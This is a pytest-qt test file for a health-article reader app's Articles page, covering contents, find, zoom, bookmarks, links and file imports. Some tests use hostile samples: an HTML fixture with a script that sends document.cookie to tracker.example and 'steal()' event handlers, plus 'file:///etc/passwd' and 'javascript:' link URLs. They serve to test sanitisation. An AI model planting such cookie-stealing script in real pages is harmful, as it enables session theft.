"""The Articles page driven like a reader: list, contents, find, zoom, links, bookmarks, imports."""

from __future__ import annotations

from pathlib import Path

import pytest
from PySide6.QtCore import QPoint, Qt, QUrl
from PySide6.QtGui import QContextMenuEvent, QDesktopServices, QTextCursor
from PySide6.QtWidgets import QApplication, QListWidget, QWidget

from gutsleep.services.context import open_services
from gutsleep.storage.settings import READER_ZOOM
from gutsleep.ui import dialogs
from gutsleep.ui.articles.common import HIT_OPEN
from gutsleep.ui.articles.page import ArticlesPage
from gutsleep.ui.main_window import MainWindow

HOSTILE_HTML = """<html><head><title>Evening routine</title>
<script>new Image().src = 'https://tracker.example/p?c=' + document.cookie</script>
<link rel="stylesheet" href="https://cdn.example/site.css"></head>
<body onload="steal()">
<h1>Evening routine</h1>
<p onmouseover="steal()">Dim the lights an hour before bed.</p>
<img src="https://tracker.example/pixel.gif" width="1" height="1">
<iframe src="https://ads.example/banner"></iframe>
<h2 id="tea">Herbal tea</h2><p>Chamomile is a gentle habit.</p>
</body></html>
"""


def bundled_count() -> int:
    """The articles that ship with gutsleep (the library before any import)."""
    from gutsleep.articles.loader import load_bundled

    return len(load_bundled())


def open_window(qtbot, data_dir: Path):
    services = open_services(data_dir, zone="Europe/London")
    window = MainWindow(services)
    qtbot.addWidget(window)
    window.resize(1150, 800)
    window.show()
    qtbot.waitExposed(window)
    window.activateWindow()
    qtbot.waitUntil(lambda: QApplication.activeWindow() is window)
    page = window.show_page("articles")
    assert isinstance(page, ArticlesPage)
    qtbot.waitUntil(lambda: page.library.items.count() >= 7)
    return services, window, page


def close_window(window: MainWindow, services) -> None:
    window.close()
    services.close()


def list_item(widget: QListWidget, article_id: str):
    for row in range(widget.count()):
        if widget.item(row).data(Qt.ItemDataRole.UserRole) == article_id:
            return widget.item(row)
    raise AssertionError(f"{article_id} is not listed")


def click_item(qtbot, widget: QListWidget, item) -> None:
    widget.scrollToItem(item)
    qtbot.mouseClick(
        widget.viewport(), Qt.MouseButton.LeftButton, pos=widget.visualItemRect(item).center()
    )


def click_text(qtbot, page: ArticlesPage, text: str) -> None:
    """Click in the middle of ``text`` in the reader, scrolling it into view first."""
    cursor = page.reader.browser.document().find(text)
    assert not cursor.isNull(), text
    middle = QTextCursor(cursor)
    middle.setPosition((cursor.selectionStart() + cursor.selectionEnd()) // 2)
    page.reader.browser.setTextCursor(middle)
    page.reader.browser.ensureCursorVisible()
    point = page.reader.browser.cursorRect(middle).center() + QPoint(0, 0)
    qtbot.mouseClick(page.reader.browser.viewport(), Qt.MouseButton.LeftButton, pos=point)


def selected_text(page: ArticlesPage) -> str:
    return page.reader.browser.textCursor().selectedText()


def test_read_with_contents_find_zoom_then_reopen(qtbot, data_dir: Path) -> None:
    services, window, page = open_window(qtbot, data_dir)
    assert not page.reader.find_bar.isVisible()
    signs = list_item(page.library.items, "signs")
    assert "Tier 3 · emerging evidence" in signs.data(Qt.ItemDataRole.UserRole + 1)
    assert "Unread" in signs.data(Qt.ItemDataRole.UserRole + 1)
    click_item(qtbot, page.library.items, signs)
    assert page.reader.current is not None and page.reader.current.id == "signs"
    assert page.reader.read_box.isChecked()
    assert services.articles.state("signs").read
    assert "Unread" not in list_item(page.library.items, "signs").data(Qt.ItemDataRole.UserRole + 1)
    assert page.reader.browser.verticalScrollBar().value() == 0
    assert "Not medical advice" in page.reader.browser.toPlainText()
    assert "https://doi.org/10.1038/npp.2016.148" in page.reader.browser.toPlainText()  # references

    # The table of contents: a click, then the keyboard.
    titles = [page.reader.toc.item(row).text().strip() for row in range(page.reader.toc.count())]
    assert titles[0] == "The checklist" and titles[-1] == "References"
    antibiotics = next(
        page.reader.toc.item(r)
        for r in range(page.reader.toc.count())
        if "antibiotic" in page.reader.toc.item(r).text()
    )
    click_item(qtbot, page.reader.toc, antibiotics)
    assert page.reader.current_anchor() == "antibiotics"
    top = page.reader.browser.verticalScrollBar().value()
    assert top > 0
    first_line = page.reader.browser.cursorForPosition(QPoint(30, 20))
    first_line.select(QTextCursor.SelectionType.LineUnderCursor)
    assert "antibiotic" in first_line.selectedText().lower()
    page.reader.toc.setFocus()
    qtbot.keyClick(page.reader.toc, Qt.Key.Key_Down)
    assert page.reader.current_anchor() == "inflammation-markers"
    assert page.reader.browser.verticalScrollBar().value() > top

    # Find in page: Ctrl+F, type, Enter / F3 for next, Shift+F3 for previous.
    page.reader.browser.setFocus()
    qtbot.keyClick(page.reader.browser, Qt.Key.Key_F, Qt.KeyboardModifier.ControlModifier)
    assert page.reader.find_bar.isVisible()
    assert QApplication.focusWidget() is page.reader.find_bar.text
    qtbot.keyClicks(page.reader.find_bar.text, "inflammation")
    assert selected_text(page).lower() == "inflammation"
    first = page.reader.browser.textCursor().selectionStart()
    count = int(page.reader.find_bar.message.text().split()[0])
    assert count >= 3
    assert len(page.reader.browser.extraSelections()) == count  # every match is marked
    qtbot.keyClick(page.reader.find_bar.text, Qt.Key.Key_Return)
    second = page.reader.browser.textCursor().selectionStart()
    assert second > first and selected_text(page).lower() == "inflammation"
    qtbot.keyClick(page.reader.find_bar.text, Qt.Key.Key_F3)
    third = page.reader.browser.textCursor().selectionStart()
    assert third > second
    qtbot.keyClick(page.reader.find_bar.text, Qt.Key.Key_F3, Qt.KeyboardModifier.ShiftModifier)
    assert page.reader.browser.textCursor().selectionStart() == second
    qtbot.keyClick(page.reader.find_bar.text, Qt.Key.Key_Return, Qt.KeyboardModifier.ShiftModifier)
    assert page.reader.browser.textCursor().selectionStart() == first
    page.reader.find_bar.text.selectAll()
    qtbot.keyClicks(page.reader.find_bar.text, "kohlrabi")
    assert "No match" in page.reader.find_bar.message.text()
    qtbot.keyClick(page.reader.find_bar.text, Qt.Key.Key_Escape)
    assert not page.reader.find_bar.isVisible()

    # Zoom with the keyboard, remembered at once.
    size = page.reader.browser.font().pointSizeF()
    page.reader.browser.setFocus()
    qtbot.keyClick(page.reader.browser, Qt.Key.Key_Plus, Qt.KeyboardModifier.ControlModifier)
    qtbot.keyClick(page.reader.browser, Qt.Key.Key_Plus, Qt.KeyboardModifier.ControlModifier)
    qtbot.keyClick(page.reader.browser, Qt.Key.Key_Minus, Qt.KeyboardModifier.ControlModifier)
    qtbot.keyClick(page.reader.browser, Qt.Key.Key_Plus, Qt.KeyboardModifier.ControlModifier)
    assert page.reader.zoom == 2
    assert page.reader.browser.font().pointSizeF() == pytest.approx(size * 1.2)
    assert services.settings.get(READER_ZOOM) == 2
    assert page.reader.zoom_label.text() == "120 %"
    # Zooming keeps the section in view.
    assert page.reader.current_anchor() == "inflammation-markers"

    # Scroll somewhere in the middle of a section, as a reader would.
    page.reader.scroll_to_anchor("mood-symptoms")
    page.reader.browser.verticalScrollBar().setValue(
        page.reader.browser.verticalScrollBar().value() + 60
    )
    position = page.reader.top_position()
    assert page.reader.current_anchor() == "mood-symptoms"

    # Another article, then back: the position in signs was kept.
    click_item(qtbot, page.library.items, list_item(page.library.items, "evidence"))
    assert page.reader.current.id == "evidence"
    assert page.reader.browser.verticalScrollBar().value() == 0
    assert services.articles.state("signs").position == position
    click_item(qtbot, page.library.items, list_item(page.library.items, "signs"))
    assert page.reader.top_position() == position
    close_window(window, services)

    services, window, page = open_window(qtbot, data_dir)
    assert window.current_page_id() == "articles"
    assert page.reader.zoom == 2
    assert page.reader.browser.font().pointSizeF() == pytest.approx(size * 1.2)
    click_item(qtbot, page.library.items, list_item(page.library.items, "signs"))
    # The same text is at the top, even though the column may be a little wider now.
    assert page.reader.top_position() == position
    assert page.reader.browser.verticalScrollBar().value() > 0
    assert page.reader.current_anchor() == "mood-symptoms"
    qtbot.keyClick(page.reader.browser, Qt.Key.Key_0, Qt.KeyboardModifier.ControlModifier)
    assert page.reader.zoom == 0 and services.settings.get(READER_ZOOM) == 0
    close_window(window, services)


def test_deep_links_open_the_right_section(qtbot, data_dir: Path) -> None:
    services, window, page = open_window(qtbot, data_dir)
    window.show_page("journal")
    assert window.open_article("signs", "antibiotics") is True
    assert window.current_page_id() == "articles"
    assert page.reader.current.id == "signs"
    assert page.reader.current_anchor() == "antibiotics"
    assert "antibiotic" in page.reader.toc.currentItem().text()
    assert page.reader.browser.verticalScrollBar().value() > 0
    first_line = page.reader.browser.cursorForPosition(QPoint(30, 20))
    first_line.select(QTextCursor.SelectionType.LineUnderCursor)
    assert "antibiotic" in first_line.selectedText().lower()

    # The checklist's digestion question has its own section.
    assert window.open_article("signs", "digestion-fine")
    assert page.reader.current_anchor() == "digestion-fine"

    # Links inside articles: to another article's section, and back again.
    page.reader.scroll_to_anchor("none-apply")
    before = page.reader.top_position()
    click_text(qtbot, page, "where gut health fits")
    assert page.reader.current.id == "evidence-tiers"
    assert page.reader.current_anchor() == "tier-1"
    assert page.reader.back_button.isEnabled()
    qtbot.keyClick(page.reader.browser, Qt.Key.Key_Left, Qt.KeyboardModifier.AltModifier)
    assert page.reader.current.id == "signs"
    assert page.reader.top_position() == before

    # A link within the same article.
    page.reader.scroll_to_anchor("checklist")
    click_text(qtbot, page, "An autoimmune condition")
    assert page.reader.current.id == "signs" and page.reader.current_anchor() == "autoimmune"

    # An unknown article leaves the reader where it was, with a message.
    assert page.open_article("no-such-article") is False
    assert page.reader.current.id == "signs"
    assert "no-such-article" in page.reader.status.text()
    close_window(window, services)


def test_search_as_you_type_highlights_hits(qtbot, data_dir: Path) -> None:
    services, window, page = open_window(qtbot, data_dir)
    page.library.search.setFocus()
    qtbot.keyClicks(page.library.search, "vagus")
    ids = [page.library.items.item(r).data(Qt.ItemDataRole.UserRole) for r in range(3)[:1]]
    assert ids == ["gut-brain-axis"]
    snippet = page.library.items.item(0).data(Qt.ItemDataRole.UserRole + 1)
    assert HIT_OPEN + "vagus" in snippet.lower() or HIT_OPEN + "Vagus" in snippet
    qtbot.keyClick(page.library.search, Qt.Key.Key_Down)
    assert QApplication.focusWidget() is page.library.items
    qtbot.keyClick(page.library.items, Qt.Key.Key_Return)
    assert page.reader.current.id == "gut-brain-axis"
    assert page.reader.current_anchor() == "vagus-nerve"
    assert "#ffe066" in page.reader.browser.toHtml()
    qtbot.keyClicks(
        page.library.search, "zzzz"
    )  # focus is on the list: typing goes nowhere harmful
    page.library.search.setFocus()
    page.library.search.selectAll()
    qtbot.keyClicks(page.library.search, "kohlrabi")
    assert page.library.items.count() == 1
    assert not page.library.items.item(0).flags() & Qt.ItemFlag.ItemIsEnabled
    page.library.search.clear()
    assert page.library.items.count() >= 7
    assert "#ffe066" not in page.reader.browser.toHtml()  # highlights go with the search
    assert page.reader.current.id == "gut-brain-axis"
    close_window(window, services)


def test_bookmark_a_section_with_a_note(qtbot, data_dir: Path, monkeypatch) -> None:
    services, window, page = open_window(qtbot, data_dir)
    window.open_article("foundations", "probiotics")
    monkeypatch.setattr(dialogs, "edit_text", lambda *args: "Ask about <b>LGG</b>\nin May")
    qtbot.mouseClick(page.reader.bookmark_button, Qt.MouseButton.LeftButton)
    (mark,) = services.articles.bookmarks()
    assert (mark.article_id, mark.anchor, mark.note) == (
        "foundations",
        "probiotics",
        "Ask about <b>LGG</b>\nin May",
    )
    assert page.tabs.tabText(1) == "Bookmarks (1)"
    # Cancelling the note dialog bookmarks nothing.
    monkeypatch.setattr(dialogs, "edit_text", lambda *args: None)
    qtbot.mouseClick(page.reader.bookmark_button, Qt.MouseButton.LeftButton)
    assert len(services.articles.bookmarks()) == 1
    close_window(window, services)

    services, window, page = open_window(qtbot, data_dir)
    page.tabs.setCurrentIndex(1)
    item = page.bookmarks.items.item(0)
    shown = item.data(Qt.ItemDataRole.UserRole + 1)
    assert "Ask about &lt;b&gt;LGG&lt;/b&gt;<br />in May" in shown  # notes are plain text
    assert "Probiotics" in shown or "probiotics" in shown.lower()
    click_item(qtbot, page.bookmarks.items, item)
    qtbot.keyClick(page.bookmarks.items, Qt.Key.Key_Return)
    assert page.reader.current.id == "foundations" and page.reader.current_anchor() == "probiotics"

    monkeypatch.setattr(dialogs, "edit_text", lambda parent, title, label, text: text + "!")
    qtbot.mouseClick(page.bookmarks.edit_button, Qt.MouseButton.LeftButton)
    assert services.articles.bookmarks()[0].note.endswith("in May!")
    asked = []
    monkeypatch.setattr(dialogs, "ask", lambda *args: asked.append(args) or False)
    qtbot.mouseClick(page.bookmarks.delete_button, Qt.MouseButton.LeftButton)
    assert asked and len(services.articles.bookmarks()) == 1
    monkeypatch.setattr(dialogs, "ask", lambda *args: True)
    qtbot.mouseClick(page.bookmarks.delete_button, Qt.MouseButton.LeftButton)
    assert services.articles.bookmarks() == []
    assert page.tabs.tabText(1) == "Bookmarks"

    # Selected text becomes the bookmark's quote, in the section that holds it.
    window.open_article("signs", "autoimmune")
    cursor = page.reader.browser.document().find("coeliac disease and inflammatory bowel disease")
    page.reader.browser.setTextCursor(cursor)
    monkeypatch.setattr(dialogs, "edit_text", lambda *args: "")
    qtbot.mouseClick(page.reader.bookmark_button, Qt.MouseButton.LeftButton)
    (mark,) = services.articles.bookmarks()
    assert mark.anchor == "autoimmune"
    assert mark.quote == "coeliac disease and inflammatory bowel disease"
    close_window(window, services)


def test_an_external_link_asks_first(qtbot, data_dir: Path, monkeypatch) -> None:
    services, window, page = open_window(qtbot, data_dir)
    window.open_article("signs", "references")
    asked: list[str] = []
    opened: list[QUrl] = []
    answer = {"value": False}

    def confirm(parent: QWidget, url: str) -> bool:
        asked.append(url)
        return answer["value"]

    monkeypatch.setattr(dialogs, "confirm_external_link", confirm)
    monkeypatch.setattr(QDesktopServices, "openUrl", staticmethod(opened.append))
    doi = "https://doi.org/10.1038/npp.2016.148"
    click_text(qtbot, page, doi)
    assert asked == [doi]
    assert opened == []
    answer["value"] = True
    click_text(qtbot, page, doi)
    assert [url.toString() for url in opened] == [doi]
    # Other schemes are ignored without a question.
    for url in ("file:///etc/passwd", "javascript:alert(1)", "mailto:a@example.org"):
        page.reader.browser.anchorClicked.emit(QUrl(url))
    assert len(asked) == 2 and len(opened) == 1
    assert page.reader.current.id == "signs"
    close_window(window, services)


def test_import_a_hostile_html_file_and_remove_it(
    qtbot, data_dir: Path, tmp_path: Path, monkeypatch
) -> None:
    services, window, page = open_window(qtbot, data_dir)
    window.open_article("signs")
    assert not page.reader.remove_button.isVisible()  # bundled articles can't be removed
    source = tmp_path / "evening.html"
    source.write_text(HOSTILE_HTML, encoding="utf-8")
    monkeypatch.setattr(dialogs, "open_path", lambda *args: str(source))
    warned: list[str] = []
    monkeypatch.setattr(dialogs, "warn", lambda parent, title, text: warned.append(text))
    qtbot.mouseClick(page.library.import_button, Qt.MouseButton.LeftButton)
    # Read and checked on the worker, then opened.
    qtbot.waitUntil(lambda: page.reader.current is not None and not page.reader.current.bundled)
    assert warned == []
    assert page.reader.current is not None and page.reader.current.title == "Evening routine"
    assert not page.reader.current.bundled
    text = page.reader.browser.toPlainText()
    assert "Dim the lights" in text and "Chamomile" in text
    shown = page.reader.browser.toHtml().lower()
    for bad in ("<img", "tracker.example", "cdn.example", "ads.example", "steal", "script"):
        assert bad not in shown, bad
    assert page.reader.browser.refused == []
    assert "Yours" in list_item(page.library.items, page.reader.current.id).data(
        Qt.ItemDataRole.UserRole + 1
    )
    assert [page.reader.toc.item(r).text().strip() for r in range(page.reader.toc.count())] == [
        "Evening routine",
        "Herbal tea",
    ]
    assert page.reader.remove_button.isVisible()

    # A binary file is refused with the sentence from the importer, in the page.
    binary = tmp_path / "photo.md"
    binary.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00")
    monkeypatch.setattr(dialogs, "open_path", lambda *args: str(binary))
    qtbot.mouseClick(page.library.import_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: "photo.md can't be read as text" in page.reader.status.text())
    assert warned == []

    article_id = page.reader.current.id
    monkeypatch.setattr(dialogs, "ask", lambda *args: False)
    qtbot.mouseClick(page.reader.remove_button, Qt.MouseButton.LeftButton)
    assert services.articles.article(article_id) is not None
    monkeypatch.setattr(dialogs, "ask", lambda *args: True)
    qtbot.mouseClick(page.reader.remove_button, Qt.MouseButton.LeftButton)
    assert services.articles.article(article_id) is None
    assert page.reader.current is None
    ids = [
        page.library.items.item(r).data(Qt.ItemDataRole.UserRole) for r in range(bundled_count())
    ]
    assert article_id not in ids
    close_window(window, services)


def test_the_library_is_read_only_when_the_page_is_first_shown(qtbot, data_dir: Path) -> None:
    services = open_services(data_dir, zone="Europe/London")
    window = MainWindow(services)
    qtbot.addWidget(window)
    window.show()
    qtbot.waitExposed(window)
    assert "articles" not in window.pages
    assert services.articles.loaded is False
    window.show_page("articles")
    qtbot.waitUntil(lambda: services.articles.loaded)
    window.show_page("journal")
    (read,) = [a for a in window.help_menu.actions() if a.text() == "Read the &articles"]
    read.trigger()
    assert window.current_page_id() == "articles"
    close_window(window, services)


def test_starting_on_the_articles_page_reads_the_library_after_the_first_paint(
    qtbot, data_dir: Path
) -> None:
    from gutsleep.storage.settings import LAST_PAGE

    services = open_services(data_dir, zone="Europe/London")
    services.settings.set(LAST_PAGE, "articles")
    window = MainWindow(services)
    qtbot.addWidget(window)
    assert "articles" in window.pages
    assert services.articles.loaded is False
    window.show()
    qtbot.waitUntil(lambda: services.articles.loaded)
    page = window.pages["articles"]
    qtbot.waitUntil(lambda: page.library.items.count() >= 7)
    close_window(window, services)


def test_a_hostile_import_is_refused_in_the_page_without_blocking_it(
    qtbot, data_dir: Path, tmp_path: Path, monkeypatch
) -> None:
    import threading

    from gutsleep.services import articles as articles_service

    services, window, page = open_window(qtbot, data_dir)
    before = [
        page.library.items.item(r).data(Qt.ItemDataRole.UserRole) for r in range(bundled_count())
    ]
    source = tmp_path / "tables.html"
    source.write_text("<table><tr><td>" * 3000 + "deep", encoding="utf-8")
    monkeypatch.setattr(dialogs, "open_path", lambda *args: str(source))
    warned: list[str] = []
    monkeypatch.setattr(dialogs, "warn", lambda *args: warned.append(args[-1]))
    workers: list[bool] = []
    prepare = articles_service.prepare_import

    def on_the_worker(path):
        workers.append(threading.current_thread() is threading.main_thread())
        return prepare(path)

    monkeypatch.setattr("gutsleep.ui.articles.imports.prepare_import", on_the_worker)
    qtbot.mouseClick(page.library.import_button, Qt.MouseButton.LeftButton)
    # The click returned before the file was parsed: the page says it is working.
    assert "Adding “tables.html”" in page.reader.status.text() or workers
    qtbot.waitUntil(lambda: "nested too deeply" in page.reader.status.text())
    assert workers == [False]  # parsed off the GUI thread
    assert page.reader.status.text() == (
        "This article is nested too deeply to show safely (more than 40 levels)."
    )
    assert page.library.import_button.isEnabled()
    assert warned == []
    assert services.articles.repository.user_article_ids() == set()
    assert page.library.items.count() == bundled_count()
    assert [
        page.library.items.item(r).data(Qt.ItemDataRole.UserRole) for r in range(bundled_count())
    ] == before
    close_window(window, services)


def test_remove_an_imported_article_from_the_list_by_keyboard(
    qtbot, data_dir: Path, tmp_path: Path, monkeypatch
) -> None:
    services, window, page = open_window(qtbot, data_dir)
    source = tmp_path / "my_notes.md"
    source.write_text("# My notes\n\nWarm milk helped.", encoding="utf-8")
    article = services.articles.import_file(source)
    page.library.refresh()
    assert page.reader.current is None
    assert page.library.remove_button.accessibleName() == "Remove the selected article"

    # A bundled article can't be removed: the button stays off and Delete does nothing.
    page.library.items.setFocus()
    page.library.items.setCurrentItem(list_item(page.library.items, "signs"))
    assert not page.library.remove_button.isEnabled()
    asked: list[tuple] = []
    monkeypatch.setattr(dialogs, "ask", lambda *args: asked.append(args) or True)
    qtbot.keyClick(page.library.items, Qt.Key.Key_Delete)
    assert asked == [] and services.articles.article("signs") is not None

    # The imported one: select it with the arrow keys, Delete, confirm.
    qtbot.keyClick(page.library.items, Qt.Key.Key_End)
    assert page.library.items.currentItem().data(Qt.ItemDataRole.UserRole) == article.id
    assert page.library.remove_button.isEnabled()
    monkeypatch.setattr(dialogs, "ask", lambda *args: asked.append(args) or False)
    qtbot.keyClick(page.library.items, Qt.Key.Key_Delete)
    assert len(asked) == 1 and services.articles.article(article.id) is not None
    monkeypatch.setattr(dialogs, "ask", lambda *args: asked.append(args) or True)
    qtbot.keyClick(page.library.items, Qt.Key.Key_Delete)
    assert len(asked) == 2 and "My notes" in asked[-1][2]
    assert services.articles.article(article.id) is None
    assert page.reader.current is None  # it was never opened
    ids = [
        page.library.items.item(r).data(Qt.ItemDataRole.UserRole) for r in range(bundled_count())
    ]
    assert article.id not in ids and page.library.items.count() == bundled_count()
    assert "was removed" in page.reader.status.text()

    # The menu key opens the context menu for the selected item; Remove… is in it.
    again = services.articles.import_file(source)
    page.library.refresh()
    page.library.items.setCurrentItem(list_item(page.library.items, again.id))
    QApplication.sendEvent(
        page.library.items,
        QContextMenuEvent(QContextMenuEvent.Reason.Keyboard, QPoint(0, 0), QPoint(0, 0)),
    )
    menu = page.library.menu
    assert menu is not None
    qtbot.waitUntil(menu.isVisible)
    (remove,) = [action for action in menu.actions() if action.text() == "Remove…"]
    assert remove.isEnabled()
    remove.trigger()
    assert services.articles.article(again.id) is None
    menu.close()
    close_window(window, services)


def test_a_stored_article_over_the_limits_is_refused_but_can_be_removed(
    qtbot, data_dir: Path, monkeypatch
) -> None:
    services = open_services(data_dir, zone="Europe/London")
    # As an older version would have stored it: sanitised, but 2,000 cells.
    services.articles.repository.add_user_article(
        "user-huge", "Huge table", "huge.html", "html", "<table><tr>" + "<td>x</td>" * 2000
    )
    services.close()
    services, window, page = open_window(qtbot, data_dir)
    item = list_item(page.library.items, "user-huge")
    assert "table cells" in item.data(Qt.ItemDataRole.UserRole + 1)
    click_item(qtbot, page.library.items, item)
    assert page.reader.current is None
    assert "table cells than can be shown safely" in page.reader.status.text()
    assert "x" not in page.reader.browser.toPlainText().split()
    assert page.reader.remove_button.isVisible() and page.library.remove_button.isEnabled()
    monkeypatch.setattr(dialogs, "ask", lambda *args: True)
    qtbot.mouseClick(page.reader.remove_button, Qt.MouseButton.LeftButton)
    assert services.articles.article("user-huge") is None
    assert page.library.items.count() == bundled_count()
    close_window(window, services)
